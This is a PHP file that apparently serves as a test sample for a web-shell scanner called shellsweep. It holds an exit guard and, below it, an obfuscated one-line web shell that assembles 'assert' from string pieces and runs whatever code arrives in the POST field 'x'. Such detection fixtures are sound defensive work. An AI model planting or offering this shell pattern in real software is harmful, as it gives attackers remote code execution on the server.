<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
$k = 'ass'.'ert';
$k(${'_POST'}['x']);
